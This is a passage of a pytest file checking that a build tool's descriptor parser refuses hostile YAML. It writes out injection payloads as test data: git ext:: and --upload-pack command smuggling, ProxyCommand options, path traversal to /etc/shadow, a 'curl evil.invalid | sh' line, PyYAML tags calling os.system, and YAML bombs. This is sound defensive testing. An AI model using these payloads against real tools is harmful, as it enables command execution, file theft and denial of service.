"""Hostile descriptors (issue 6, item 1).

A descriptor is written by someone else.  Every case here must be refused by
:func:`gitian.descriptor.parse` with a :class:`DescriptorError` whose message
is one printable line naming the file and the key (or, for YAML-level
problems, the line), and by ``gbuild`` with exit code 2 before anything
happens: no process started, no network, nothing written or created in the
gitian home, the current directory or the temporary directory.

The "nothing happens" check is an audit hook (PEP 578): while gbuild runs,
every write-mode open, directory change, process start and socket connect
is recorded, and the test fails if there is one.
"""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NoReturn, cast

import pytest
import yaml

from gitian import descriptor
from gitian.errors import DescriptorError

DELETE = object()

BASE: dict[str, Any] = {
    "name": "pkg",
    "distro": "debian",
    "suites": ["bookworm"],
    "architectures": ["amd64"],
    "packages": ["gcc", "libc6-dev:i386"],
    "reference_datetime": "2020-01-02 03:04:05",
    "remotes": [
        {
            "url": "https://example.invalid/pkg.git",
            "dir": "pkg",
            "commit": "0123456789abcdef0123456789abcdef01234567",
        }
    ],
    "files": ["input-1.tar.gz"],
    "script": "echo hello\n",
    "enable_cache": True,
    "sudo": False,
    "multiarch": ["i386"],
    "repositories": [
        {
            "source": "deb [arch=amd64] http://example.invalid/debian bookworm-backports main",
            "distribution": "bookworm-backports",
            "packages": ["cmake"],
        }
    ],
    "alternatives": [{"package": "x86_64-w64-mingw32-g++", "path": "/usr/bin/x86_64-w64-g++"}],
    "docker_image_digests": ["sha256:" + "0" * 64],
    "optionals": {"gpg": "signer"},
}


def mutate(path: tuple[str | int, ...], value: Any) -> dict[str, Any]:
    doc = copy.deepcopy(BASE)
    node: Any = doc
    for p in path[:-1]:
        node = node[p]
    if value is DELETE:
        del node[path[-1]]
    else:
        node[path[-1]] = value
    return doc


def dump(doc: Any) -> bytes:
    return yaml.dump(doc, Dumper=yaml.CSafeDumper, sort_keys=False, allow_unicode=True).encode()


def P(path: tuple[str | int, ...], value: Any, needle: str, id: str) -> Any:  # noqa: N802
    return pytest.param(path, value, needle, id=id)


R = ("remotes", 0)
URL = (*R, "url")
COMMIT = (*R, "commit")
DIR = (*R, "dir")
REPO = ("repositories", 0)
ALT = ("alternatives", 0)
SRC = "repositories[0].source"

# (path, value, text the message must contain)
STRUCTURED = [
    # -- name: path traversal, absolute, control chars, lookalikes, types, size
    P(("name",), "../evil", "'name'", "name-dotdot-slash"),
    P(("name",), "..", "'name'", "name-dotdot"),
    P(("name",), ".", "'name'", "name-dot"),
    P(("name",), "/etc/passwd", "'name'", "name-absolute"),
    P(("name",), "a/b", "'name'", "name-slash"),
    P(("name",), ".hidden", "'name'", "name-leading-dot"),
    P(("name",), "-rf", "'name'", "name-option"),
    P(("name",), "con\nx", "'name'", "name-newline"),
    P(("name",), "x\x00y", "'name'", "name-nul"),
    P(("name",), "x\ry", "'name'", "name-cr"),
    P(("name",), "\x1b[31mred", "'name'", "name-ansi-escape"),
    P(("name",), "x\x7f", "'name'", "name-del"),
    P(("name",), "x\u202egpj.exe", "'name'", "name-bidi-override"),
    P(("name",), "x\u2028y", "'name'", "name-line-separator"),
    P(("name",), "p\u0430ckage", "'name'", "name-cyrillic-lookalike"),
    P(("name",), "\uff50\uff4b\uff47", "'name'", "name-fullwidth"),
    P(("name",), "pkg;rm -rf ~", "'name'", "name-semicolon"),
    P(("name",), "$(id)", "'name'", "name-command-substitution"),
    P(("name",), "`id`", "'name'", "name-backticks"),
    P(("name",), "a b", "'name'", "name-space"),
    P(("name",), "a*", "'name'", "name-glob"),
    P(("name",), "", "'name'", "name-empty"),
    P(("name",), "a" * 300, "'name'", "name-too-long"),
    P(("name",), ["pkg"], "'name'", "name-list"),
    P(("name",), {"a": "b"}, "'name'", "name-mapping"),
    P(("name",), 42, "'name'", "name-int"),
    P(("name",), True, "'name'", "name-bool"),
    P(("name",), None, "'name'", "name-null"),
    P(("name",), DELETE, "'name'", "name-missing"),
    # -- distro
    P(("distro",), "fedora", "'distro'", "distro-unknown"),
    P(("distro",), "debian\n", "'distro'", "distro-newline"),
    P(("distro",), ["debian"], "'distro'", "distro-list"),
    P(("distro",), "../debian", "'distro'", "distro-traversal"),
    # -- suites
    P(("suites",), "bookworm", "'suites'", "suites-string"),
    P(("suites",), [], "'suites'", "suites-empty"),
    P(("suites",), DELETE, "'suites'", "suites-missing"),
    P(("suites",), ["../x"], "'suites'", "suites-traversal"),
    P(("suites",), ["/x"], "'suites'", "suites-absolute"),
    P(("suites",), ["-x"], "'suites'", "suites-option"),
    P(("suites",), ["book worm"], "'suites'", "suites-space"),
    P(("suites",), ["bookworm\n"], "'suites'", "suites-newline"),
    P(("suites",), [["bookworm"]], "'suites'", "suites-nested-list"),
    P(("suites",), {"bookworm": 1}, "'suites'", "suites-mapping"),
    # -- architectures
    P(("architectures",), "amd64", "'architectures'", "arch-string"),
    P(("architectures",), ["arm64"], "'architectures'", "arch-unknown"),
    P(("architectures",), ["amd64;id"], "'architectures'", "arch-semicolon"),
    P(("architectures",), [64], "'architectures'", "arch-int"),
    P(("architectures",), [], "'architectures'", "arch-empty"),
    # -- packages
    P(("packages",), "gcc", "'packages'", "packages-string"),
    P(("packages",), ["-oAPT::Get::AllowUnauthenticated=1"], "'packages'", "packages-option"),
    P(("packages",), ["gcc;id"], "'packages'", "packages-semicolon"),
    P(("packages",), ["gcc\nrm"], "'packages'", "packages-newline"),
    P(("packages",), ["$(id)"], "'packages'", "packages-subst"),
    P(("packages",), ["gcc make"], "'packages'", "packages-space"),
    P(("packages",), ["../x.deb"], "'packages'", "packages-path"),
    P(("packages",), ["/tmp/x.deb"], "'packages'", "packages-absolute"),
    P(("packages",), [["gcc"]], "'packages'", "packages-nested"),
    P(("packages",), [None], "'packages'", "packages-null"),
    P(("packages",), ["gcc"] * 10_001, "'packages'", "packages-too-many"),
    # -- remotes: shape
    P(("remotes",), "https://example.invalid/x.git", "'remotes'", "remotes-string"),
    P(("remotes",), {"url": "https://e.invalid/x", "dir": "x"}, "'remotes'", "remotes-mapping"),
    P(("remotes", 0), "https://example.invalid/x.git", "remotes[0]", "remote-not-mapping"),
    P(URL, DELETE, "remotes[0]", "remote-missing-url"),
    P(DIR, DELETE, "remotes[0]", "remote-missing-dir"),
    # -- remotes: dir
    P(DIR, "../x", "remotes[0].dir", "dir-traversal"),
    P(DIR, "..", "remotes[0].dir", "dir-dotdot"),
    P(DIR, ".", "remotes[0].dir", "dir-dot"),
    P(DIR, "/abs", "remotes[0].dir", "dir-absolute"),
    P(DIR, "a/b", "remotes[0].dir", "dir-slash"),
    P(DIR, "-x", "remotes[0].dir", "dir-option"),
    P(DIR, "a b", "remotes[0].dir", "dir-space"),
    P(DIR, "a\nb", "remotes[0].dir", "dir-newline"),
    P(DIR, "a\x00b", "remotes[0].dir", "dir-nul"),
    P(DIR, "a;b", "remotes[0].dir", "dir-semicolon"),
    P(DIR, "", "remotes[0].dir", "dir-empty"),
    P(DIR, ["x"], "remotes[0].dir", "dir-list"),
    P(DIR, 7, "remotes[0].dir", "dir-int"),
    # -- remotes: url (transports that run programs, options, local paths)
    P(URL, "ext::sh -c touch% /tmp/pwned", "remotes[0].url", "url-ext-transport"),
    P(URL, "ext::sh", "remotes[0].url", "url-ext-transport-nospace"),
    P(URL, "fd::17", "remotes[0].url", "url-fd-transport"),
    P(URL, "Ext::sh", "remotes[0].url", "url-ext-capital"),
    P(URL, "rsync::x", "remotes[0].url", "url-other-transport"),
    P(URL, "--upload-pack=touch /tmp/pwned", "remotes[0].url", "url-upload-pack"),
    P(URL, "--upload-pack=touch", "remotes[0].url", "url-upload-pack-nospace"),
    P(URL, "-oProxyCommand=touch%20x", "remotes[0].url", "url-ssh-option"),
    P(URL, "ssh://-oProxyCommand=touch/x", "remotes[0].url", "url-ssh-host-option"),
    P(URL, "ssh://user@-oProxyCommand=x/y", "remotes[0].url", "url-ssh-user-host-option"),
    P(URL, "ssh://-user@host/x", "remotes[0].url", "url-ssh-user-option"),
    P(URL, "ssh://[-oProxyCommand=x]/y", "remotes[0].url", "url-ssh-bracket-option"),
    P(URL, "-host:path", "remotes[0].url", "url-scp-host-option"),
    P(URL, "user@-host:path", "remotes[0].url", "url-scp-user-host-option"),
    P(URL, "-user@host:path", "remotes[0].url", "url-scp-user-option"),
    P(URL, "file:///etc", "remotes[0].url", "url-file-scheme"),
    P(URL, "FILE:///home/me/secret.git", "remotes[0].url", "url-file-scheme-upper"),
    P(URL, "/home/me/private.git", "remotes[0].url", "url-absolute-path"),
    P(URL, "../../private.git", "remotes[0].url", "url-relative-escapes-inputs"),
    P(URL, "./../../../../etc", "remotes[0].url", "url-relative-escapes-inputs-2"),
    P(URL, "foo://example.invalid/x", "remotes[0].url", "url-unknown-scheme"),
    P(URL, "https:///x.git", "remotes[0].url", "url-no-host"),
    P(URL, "https://exa mple.invalid/x", "remotes[0].url", "url-space"),
    P(URL, "https://example.invalid/x\n--upload-pack=y", "remotes[0].url", "url-newline"),
    P(URL, "https://example.invalid/\x1b[2J", "remotes[0].url", "url-escape"),
    P(URL, "https://example.invalid/x\x00", "remotes[0].url", "url-nul"),
    P(URL, "https://example.invalid/$(id)", "remotes[0].url", "url-subst"),
    P(URL, "https://example.invalid/`id`", "remotes[0].url", "url-backticks"),
    P(URL, "https://example.invalid/a;b", "remotes[0].url", "url-semicolon"),
    P(URL, "https://example.invalid/a|b", "remotes[0].url", "url-pipe"),
    P(URL, "https://example.invalid/a&b", "remotes[0].url", "url-ampersand"),
    P(URL, "https://example.invalid/a>b", "remotes[0].url", "url-redirect"),
    P(URL, "https://example.invalid/'a'", "remotes[0].url", "url-quote"),
    P(URL, "https://exa\\mple.invalid/a", "remotes[0].url", "url-backslash"),
    P(URL, "https://example.invalid/" + "a" * 3000, "remotes[0].url", "url-too-long"),
    P(URL, "", "remotes[0].url", "url-empty"),
    P(URL, ["https://example.invalid/x"], "remotes[0].url", "url-list"),
    P(URL, 5, "remotes[0].url", "url-int"),
    # -- remotes: commit (options and revision syntax)
    P(COMMIT, "-x", "remotes[0].commit", "commit-option"),
    P(COMMIT, "--upload-pack=touch", "remotes[0].commit", "commit-upload-pack"),
    P(COMMIT, "HEAD~1", "remotes[0].commit", "commit-tilde"),
    P(COMMIT, "HEAD^", "remotes[0].commit", "commit-caret"),
    P(COMMIT, "a..b", "remotes[0].commit", "commit-range"),
    P(COMMIT, "a...b", "remotes[0].commit", "commit-symmetric-range"),
    P(COMMIT, "@{-1}", "remotes[0].commit", "commit-reflog"),
    P(COMMIT, "main@{1}", "remotes[0].commit", "commit-reflog-2"),
    P(COMMIT, "a:b", "remotes[0].commit", "commit-refspec"),
    P(COMMIT, "+main:main", "remotes[0].commit", "commit-force-refspec"),
    P(COMMIT, "a b", "remotes[0].commit", "commit-space"),
    P(COMMIT, " abc", "remotes[0].commit", "commit-leading-space"),
    P(COMMIT, "abc\n", "remotes[0].commit", "commit-newline"),
    P(COMMIT, "abc\t", "remotes[0].commit", "commit-tab"),
    P(COMMIT, "a*", "remotes[0].commit", "commit-glob"),
    P(COMMIT, "a?", "remotes[0].commit", "commit-question"),
    P(COMMIT, "a[1]", "remotes[0].commit", "commit-bracket"),
    P(COMMIT, "a\\b", "remotes[0].commit", "commit-backslash"),
    P(COMMIT, "main.lock", "remotes[0].commit", "commit-lock"),
    P(COMMIT, "refs/.hidden", "remotes[0].commit", "commit-dot-component"),
    P(COMMIT, "/main", "remotes[0].commit", "commit-leading-slash"),
    P(COMMIT, "main/", "remotes[0].commit", "commit-trailing-slash"),
    P(COMMIT, "a//b", "remotes[0].commit", "commit-double-slash"),
    P(COMMIT, "$(id)", "remotes[0].commit", "commit-subst"),
    P(COMMIT, "", "remotes[0].commit", "commit-empty"),
    P(COMMIT, "a" * 300, "remotes[0].commit", "commit-too-long"),
    P(COMMIT, ["abc"], "remotes[0].commit", "commit-list"),
    P(COMMIT, 1234567, "remotes[0].commit", "commit-int"),
    # -- reference_datetime
    P(("reference_datetime",), "yesterday", "'reference_datetime'", "date-words"),
    P(("reference_datetime",), "2020-13-01 00:00:00", "'reference_datetime'", "date-month-13"),
    P(("reference_datetime",), "2020-02-30 00:00:00", "'reference_datetime'", "date-feb-30"),
    P(("reference_datetime",), "2020-01-01 24:00:00", "'reference_datetime'", "date-hour-24"),
    P(("reference_datetime",), "2020-01-01T00:00:00", "'reference_datetime'", "date-iso-t"),
    P(("reference_datetime",), "2020-01-01 00:00:00\n", "'reference_datetime'", "date-newline"),
    P(("reference_datetime",), "2020-01-01 00:00:00; id", "'reference_datetime'", "date-inject"),
    P(("reference_datetime",), "-d 2020-01-01 0:0:0", "'reference_datetime'", "date-option"),
    P(("reference_datetime",), "1969-12-31 23:59:59", "'reference_datetime'", "date-pre-epoch"),
    P(
        ("reference_datetime",),
        "\uff12\uff10\uff12\uff10-01-01 00:00:00",
        "'reference_datetime'",
        "date-fullwidth-digits",
    ),
    P(("reference_datetime",), ["2020-01-01 00:00:00"], "'reference_datetime'", "date-list"),
    P(("reference_datetime",), 1577836800, "'reference_datetime'", "date-int"),
    P(("reference_datetime",), True, "'reference_datetime'", "date-bool"),
    # -- files
    P(("files",), "input-1.tar.gz", "'files'", "files-string"),
    P(("files",), ["../x"], "'files'", "files-traversal"),
    P(("files",), ["../../../../etc/shadow"], "'files'", "files-deep-traversal"),
    P(("files",), ["/etc/shadow"], "'files'", "files-absolute"),
    P(("files",), ["a/b"], "'files'", "files-slash"),
    P(("files",), [".."], "'files'", "files-dotdot"),
    P(("files",), ["-x"], "'files'", "files-option"),
    P(("files",), ["x\ny"], "'files'", "files-newline"),
    P(("files",), ["x;y"], "'files'", "files-semicolon"),
    P(("files",), ["x y"], "'files'", "files-space"),
    P(("files",), [["x"]], "'files'", "files-nested"),
    P(("files",), [{"x": 1}], "'files'", "files-mapping"),
    # -- script, booleans
    P(("script",), ["echo hi"], "'script'", "script-list"),
    P(("script",), {"a": 1}, "'script'", "script-mapping"),
    P(("script",), 5, "'script'", "script-int"),
    P(("enable_cache",), "yes", "'enable_cache'", "cache-string"),
    P(("enable_cache",), 1, "'enable_cache'", "cache-int"),
    P(("enable_cache",), [True], "'enable_cache'", "cache-list"),
    P(("sudo",), "true", "'sudo'", "sudo-string"),
    # -- multiarch
    P(("multiarch",), "i386", "'multiarch'", "multiarch-string"),
    P(("multiarch",), ["i386;id"], "'multiarch'", "multiarch-semicolon"),
    P(("multiarch",), ["-x"], "'multiarch'", "multiarch-option"),
    P(("multiarch",), ["i386\n"], "'multiarch'", "multiarch-newline"),
    # -- repositories
    P(("repositories",), "deb http://e.invalid x main", "'repositories'", "repos-string"),
    P(REPO, "deb http://e.invalid x main", "repositories[0]", "repo-not-mapping"),
    P((*REPO, "source"), DELETE, "repositories[0]", "repo-missing-source"),
    P((*REPO, "distribution"), DELETE, "repositories[0]", "repo-missing-distribution"),
    P((*REPO, "source"), "rm -rf /", "repositories[0].source", "repo-source-not-deb"),
    P(
        (*REPO, "source"),
        "deb http://e.invalid/ x main\ndeb [trusted=yes] http://evil.invalid/ y main",
        "repositories[0].source",
        "repo-source-newline",
    ),
    P((*REPO, "source"), "deb http://e.invalid/$(id) x main", SRC, "repo-source-subst"),
    P((*REPO, "source"), "deb http://e.invalid/ x main; id", SRC, "repo-source-semicolon"),
    P((*REPO, "source"), "deb `id` x main", SRC, "repo-source-backticks"),
    P((*REPO, "source"), "deb 'http://e.invalid/' x", SRC, "repo-source-quote"),
    P((*REPO, "source"), "deb http://e.invalid/ x main #", SRC, "repo-source-comment"),
    P((*REPO, "source"), ["deb http://e.invalid x"], SRC, "repo-source-list"),
    P((*REPO, "distribution"), "../x", "repositories[0].distribution", "repo-dist-traversal"),
    P((*REPO, "distribution"), "-t", "repositories[0].distribution", "repo-dist-option"),
    P((*REPO, "packages"), ["-y"], "repositories[0].packages", "repo-packages-option"),
    P((*REPO, "packages"), "cmake", "repositories[0].packages", "repo-packages-string"),
    # -- alternatives
    P(("alternatives",), "x", "'alternatives'", "alternatives-string"),
    P(ALT, "x", "alternatives[0]", "alternative-not-mapping"),
    P((*ALT, "path"), "usr/bin/x", "alternatives[0].path", "alt-path-relative"),
    P((*ALT, "path"), "/usr/../etc/shadow", "alternatives[0].path", "alt-path-traversal"),
    P((*ALT, "path"), "/usr/bin/./x", "alternatives[0].path", "alt-path-dot"),
    P((*ALT, "path"), "/usr/bin/x y", "alternatives[0].path", "alt-path-space"),
    P((*ALT, "path"), "/usr/bin/$(id)", "alternatives[0].path", "alt-path-subst"),
    P((*ALT, "path"), "/usr/bin/x\n", "alternatives[0].path", "alt-path-newline"),
    P((*ALT, "path"), "/usr/bin/x;id", "alternatives[0].path", "alt-path-semicolon"),
    P((*ALT, "path"), ["/usr/bin/x"], "alternatives[0].path", "alt-path-list"),
    P((*ALT, "package"), "-x", "alternatives[0].package", "alt-package-option"),
    P((*ALT, "package"), "x;id", "alternatives[0].package", "alt-package-semicolon"),
    P((*ALT, "package"), DELETE, "alternatives[0]", "alt-missing-package"),
    # -- docker_image_digests
    P(
        ("docker_image_digests",),
        ["sha256:" + "0" * 64, "sha256:" + "1" * 64],
        "'docker_image_digests'",
        "digests-count-mismatch",
    ),
    P(("docker_image_digests",), ["latest"], "'docker_image_digests'", "digests-tag"),
    P(("docker_image_digests",), ["sha256:abc"], "'docker_image_digests'", "digests-short"),
    P(
        ("docker_image_digests",),
        ["sha256:" + "0" * 64 + ";id"],
        "'docker_image_digests'",
        "digests-inject",
    ),
    P(("docker_image_digests",), "sha256:" + "0" * 64, "'docker_image_digests'", "digests-string"),
    # -- optionals are copied into the assert: plain data only (tags: RAW below)
]

# Raw documents: (bytes, text the message must contain)
BASE_RAW = dump(BASE)
RAW = [
    pytest.param(b"", "empty", id="empty-file"),
    pytest.param(b"   \n\n", "empty", id="whitespace-only"),
    pytest.param(b"# just a comment\n", "empty", id="comment-only"),
    pytest.param(b"---\n...\n", "empty", id="empty-document"),
    pytest.param(b"- name: pkg\n", "mapping", id="document-is-list"),
    pytest.param(b"just a string\n", "mapping", id="document-is-string"),
    pytest.param(b"42\n", "mapping", id="document-is-int"),
    pytest.param(b"\x7fELF\x02\x01\x01\x00\x00\x00", "NUL", id="binary-elf"),
    pytest.param(bytes(range(256)), "NUL", id="binary-all-bytes"),
    pytest.param(b"name: \xff\xfe\n", "UTF-8", id="invalid-utf8"),
    pytest.param("name: pkg\n".encode("utf-16"), "NUL", id="utf16-bom"),
    pytest.param(BASE_RAW + b"\x00", "NUL", id="trailing-nul"),
    pytest.param(BASE_RAW + b"x: \x1b[2J\n", "line", id="raw-escape-in-stream"),
    pytest.param(BASE_RAW + b"---\nname: other\n", "YAML", id="two-documents"),
    pytest.param(b"name: [unclosed\n", "invalid YAML", id="invalid-yaml"),
    pytest.param(b"name: 'unterminated\n", "invalid YAML", id="invalid-yaml-quote"),
    pytest.param(b"\tname: x\n", "invalid YAML", id="invalid-yaml-tab"),
    pytest.param(BASE_RAW + b"name: other\n", "'name' appears twice", id="duplicate-key"),
    pytest.param(
        BASE_RAW.replace(b"name: pkg\n", b"name: pkg\nscript: curl evil.invalid | sh\n"),
        "'script' appears twice",
        id="duplicate-script-hidden",
    ),
    pytest.param(BASE_RAW + b"1: x\n", "top-level key", id="non-string-key"),
    pytest.param(BASE_RAW + b"? [a, b]\n: x\n", "YAML", id="unhashable-key"),
    pytest.param(BASE_RAW + b"null: x\n", "top-level key", id="null-key"),
    # tags of any kind
    pytest.param(
        BASE_RAW + b"x: !!python/object/apply:os.system ['touch /tmp/pwned']\n",
        "tag",
        id="tag-python-object-apply",
    ),
    pytest.param(BASE_RAW + b"x: !!python/name:os.system\n", "tag", id="tag-python-name"),
    pytest.param(
        BASE_RAW + b"x: !!python/object/new:subprocess.Popen [['id']]\n", "tag", id="tag-popen"
    ),
    pytest.param(BASE_RAW + b"x: !!binary aGVsbG8=\n", "tag", id="tag-binary"),
    pytest.param(BASE_RAW + b"x: !!set {a, b}\n", "tag", id="tag-set"),
    pytest.param(BASE_RAW + b"x: !!omap [a: 1]\n", "tag", id="tag-omap-in-descriptor"),
    pytest.param(BASE_RAW.replace(b"name: pkg", b"name: !!str pkg"), "tag", id="tag-str"),
    pytest.param(BASE_RAW + b"x: !local thing\n", "tag", id="tag-local"),
    pytest.param(BASE_RAW + b"x: ! thing\n", "tag", id="tag-non-specific"),
    pytest.param(BASE_RAW + b"x: !<tag:example.invalid,2000:x> y\n", "tag", id="tag-verbatim"),
    pytest.param(
        b"%TAG !e! tag:example.invalid,2000:\n---\n" + BASE_RAW + b"x: !e!thing y\n",
        "TAG",
        id="tag-directive",
    ),
    pytest.param(BASE_RAW + b"a: &a {b: 1}\nc:\n  <<: *a\n", "tag", id="merge-key"),
    pytest.param(BASE_RAW + b"c:\n  =: 1\n", "tag", id="value-key"),
    # aliases
    pytest.param(BASE_RAW + b"x: &a [*a]\n", "recursive", id="alias-recursive"),
    pytest.param(BASE_RAW + b"x: *nowhere\n", "alias", id="alias-undefined"),
    pytest.param(BASE_RAW + b"x: &a 1\ny: &a 2\n", "anchor", id="anchor-twice"),
    # YAML scalars the constructor would choke on
    pytest.param(
        BASE_RAW.replace(b"'2020-01-02 03:04:05'", b"2020-13-45 00:00:00"),
        "'reference_datetime'",
        id="date-unquoted-invalid",
    ),
    pytest.param(
        BASE_RAW.replace(b"'2020-01-02 03:04:05'", b"2020-01-02 03:04:05+99:00"),
        "'reference_datetime'",
        id="date-unquoted-bad-offset",
    ),
    pytest.param(
        BASE_RAW.replace(b"'2020-01-02 03:04:05'", b"0001-01-01 00:00:00+01:00"),
        "'reference_datetime'",
        id="date-unquoted-overflow",
    ),
    pytest.param(BASE_RAW + b"x: " + b"9" * 5000 + b"\n", "key 'x'", id="int-5000-digits"),
    # a misspelt key would be ignored and the build fail minutes later
    pytest.param(
        BASE_RAW + b"pakages: [cmake]\n", "unknown key 'pakages' (did you mean 'packages'?)",
        id="typo-top-level",
    ),
    pytest.param(
        BASE_RAW.replace(b"  dir: pkg\n", b"  dir: pkg\n  comit: v1.0\n"),
        "unknown key 'remotes[0].comit' (did you mean 'commit'?)",
        id="typo-in-remote",
    ),
    pytest.param(
        BASE_RAW.replace(b"gpg: signer", b"gpg: " + b"1" * 5000), "optionals", id="int-in-optionals"
    ),
]


def _check_message(err: DescriptorError, where: str, needle: str) -> str:
    msg = str(err)
    assert msg.startswith(f"{where}: "), msg
    assert needle in msg, msg
    assert "\n" not in msg and "\r" not in msg, msg
    assert msg.isprintable(), f"unprintable characters in {msg!r}"
    assert len(msg) < 400, msg
    return msg


def test_base_descriptor_is_valid() -> None:
    d = descriptor.parse(BASE_RAW, "pkg.yml")
    assert d.name == "pkg" and d.remotes[0].dir == "pkg"


@pytest.mark.parametrize(("path", "value", "needle"), STRUCTURED)
def test_structured_case_refused(path: tuple[str | int, ...], value: Any, needle: str) -> None:
    raw = dump(mutate(path, value))
    with pytest.raises(DescriptorError) as e:
        descriptor.parse(raw, "hostile.yml")
    _check_message(e.value, "hostile.yml", needle)


@pytest.mark.parametrize(("raw", "needle"), RAW)
def test_raw_case_refused(raw: bytes, needle: str) -> None:
    with pytest.raises(DescriptorError) as e:
        descriptor.parse(raw, "hostile.yml")
    _check_message(e.value, "hostile.yml", needle)


def test_utf8_bom_is_accepted() -> None:
    assert descriptor.parse(b"\xef\xbb\xbf" + BASE_RAW).name == "pkg"


def test_oversized_file_refused(tmp_path: Path) -> None:
    p = tmp_path / "big.yml"
    with open(p, "wb") as f:
        f.write(BASE_RAW + b"script: |\n")
        f.write(b"  " + b"x" * 1024 * 1024 + b"\n")
        f.truncate(descriptor.MAX_DESCRIPTOR_BYTES + 10)
    with pytest.raises(DescriptorError) as e:
        descriptor.load(p)
    _check_message(e.value, "big.yml", "larger than")


@pytest.mark.parametrize(
    "name",
    ["evil\x1b[31m.yml", "new\nline.yml", "bidi\u202e.yml", "del\x7f.yml"],
    ids=["escape", "newline", "bidi", "del"],
)
def test_file_name_never_printed_raw(tmp_path: Path, name: str) -> None:
    p = tmp_path / name
    p.write_bytes(b"name: ../x\n")
    with pytest.raises(DescriptorError) as e:
        descriptor.load(p)
    msg = str(e.value)
    assert msg.isprintable() and "'name'" in msg, msg
    with pytest.raises(DescriptorError) as e:
        descriptor.load(tmp_path / ("missing-" + name))
    assert str(e.value).isprintable()


# -- the command-line overrides are validated like the file -----------------


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--url", "ext::sh -c touch% /tmp/pwned"),
        ("--url", "--upload-pack=touch"),
        ("--url", "ssh://-oProxyCommand=x/y"),
        ("--url", "https://example.invalid/a\nb"),
        ("--commit", "-x"),
        ("--commit", "HEAD~1"),
        ("--commit", "a..b"),
        ("--commit", "@{-1}"),
    ],
)
def test_override_refused(option: str, value: str) -> None:
    d = descriptor.parse(BASE_RAW)
    kw = {"urls": {"pkg": value}} if option == "--url" else {"commits": {"pkg": value}}
    with pytest.raises(DescriptorError) as e:
        d.with_overrides(**kw)
    msg = str(e.value)
    assert option in msg and msg.isprintable(), msg


def test_local_url_allowed_from_command_line_only() -> None:
    d = descriptor.parse(BASE_RAW)
    for url in ("/srv/git/pkg.git", "file:///srv/git/pkg.git", "../../elsewhere"):
        assert d.with_overrides(urls={"pkg": url}).remotes[0].url == url
    # and a relative path that stays inside inputs/ is fine in the file (the example does it)
    ok = descriptor.parse(dump(mutate(URL, "../pkg.bundle")))
    assert ok.remotes[0].url == "../pkg.bundle"


@pytest.mark.parametrize(
    "url",
    [
        "https://example.invalid/pkg.git",
        "http://example.invalid:8080/pkg.git",
        "git://example.invalid/pkg.git",
        "ssh://git@example.invalid:22/pkg.git",
        "git@example.invalid:org/pkg.git",
        "https://user@example.invalid/~user/pkg.git",
        "https://[::1]/pkg.git",
        "../pkg.bundle",
        "pkg-mirror",
    ],
)
def test_ordinary_urls_accepted(url: str) -> None:
    assert descriptor.parse(dump(mutate(URL, url))).remotes[0].url == url


@pytest.mark.parametrize(
    "commit",
    ["0123456789abcdef0123456789abcdef01234567", "v0.18.3.1", "main", "refs/tags/v1.0", "1.0-rc1"],
)
def test_ordinary_commits_accepted(commit: str) -> None:
    assert descriptor.parse(dump(mutate(COMMIT, commit))).remotes[0].commit == commit


# -- bounded time and memory ---------------------------------------------------

_MEASURE = textwrap.dedent(
    """
    import json, resource, sys, time
    from gitian import descriptor
    from gitian.errors import DescriptorError
    raw = open(sys.argv[1], "rb").read()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    t0 = time.process_time()
    try:
        descriptor.parse(raw, "bomb.yml")
        outcome = "accepted"
    except DescriptorError as e:
        outcome = "refused: " + e.message
    cpu = time.process_time() - t0
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(json.dumps({"outcome": outcome, "cpu": cpu, "rss_mb": (after - before) / 1024}))
    """
)


def _laughs(levels: int, width: int) -> bytes:
    out = [b"name: pkg\n", b"l0: &l0 [" + b",".join([b'"lol"'] * width) + b"]\n"]
    for i in range(1, levels):
        refs = b",".join([b"*l%d" % (i - 1)] * width)
        out.append(b"l%d: &l%d [%s]\n" % (i, i, refs))
    return b"".join(out)


BOMBS = [
    pytest.param(_laughs(10, 10), id="billion-laughs"),
    pytest.param(_laughs(30, 2), id="doubling-laughs"),
    pytest.param(
        b"a: &a [" + b"x," * 10_000 + b"x]\nb: [" + b"*a," * 5_000 + b"*a]\n", id="quadratic"
    ),
    pytest.param(b"[" * 100_000 + b"]" * 100_000, id="deep-flow-seq-100k"),
    pytest.param(b"{a: " * 100_000 + b"}" * 100_000, id="deep-flow-map-100k"),
    pytest.param(b"".join(b" " * i + b"- \n" for i in range(2_000)), id="deep-block-seq-2k"),
    pytest.param(b"".join(b" " * i + b"k:\n" for i in range(2_000)), id="deep-block-map-2k"),
    pytest.param(b"x: [" + b"1," * 1_900_000 + b"1]\n", id="4MB-of-scalars"),
    pytest.param(
        b"x: {" + b",".join(b"k%d: 1" % i for i in range(300_000))[: 4_000_000] + b"}\n",
        id="4MB-of-keys",
    ),
    pytest.param(b"x: '" + b"a" * 4_000_000 + b"'\n", id="4MB-scalar"),
    # block style only (no flow, anchors or tags): what a fast path may compose first
    pytest.param(b"name: x\nx:\n" + b"- 1\n" * 1_000_000, id="4MB-block-seq"),
    pytest.param(
        b"name: x\nx:\n" + b"".join(b"  k%d: 1\n" % i for i in range(400_000))[:4_000_000],
        id="4MB-block-map",
    ),
    pytest.param(b"x:\n" + b"- " * 2_000_000, id="4MB-compact-nesting"),
    pytest.param(b"x: &a [*a, *a]\n", id="recursive"),
]


@pytest.mark.parametrize("raw", BOMBS)
def test_bombs_bounded(raw: bytes, tmp_path: Path) -> None:
    """Refused (or harmlessly accepted) in < 1 s CPU and < 100 MB, without crashing."""
    p = tmp_path / "bomb.yml"
    p.write_bytes(raw)
    r = subprocess.run(
        [sys.executable, "-c", _MEASURE, os.fspath(p)], capture_output=True, text=True, timeout=60
    )
    assert r.returncode == 0, f"the parser crashed (exit {r.returncode}): {r.stderr[-2000:]}"
    m = json.loads(r.stdout)
    assert m["outcome"].startswith("refused"), m
    assert m["cpu"] < 1.0, m
    assert m["rss_mb"] < 100, m


# -- through gbuild: exit 2, nothing started, nothing written --------------------

_WATCH: list[tuple[str, str]] | None = None

_MUTATING = {
    "os.mkdir",
    "os.rename",
    "os.replace",
    "os.remove",
    "os.rmdir",
    "os.symlink",
    "os.link",
    "os.truncate",
    "os.chmod",
    "os.chown",
    "os.utime",
    "shutil.rmtree",
    "shutil.copyfile",
    "shutil.move",
    "subprocess.Popen",
    "os.system",
    "os.exec",
    "os.posix_spawn",
    "os.fork",
    "os.forkpty",
    "pty.spawn",
    "socket.connect",
    "socket.bind",
    "socket.getaddrinfo",
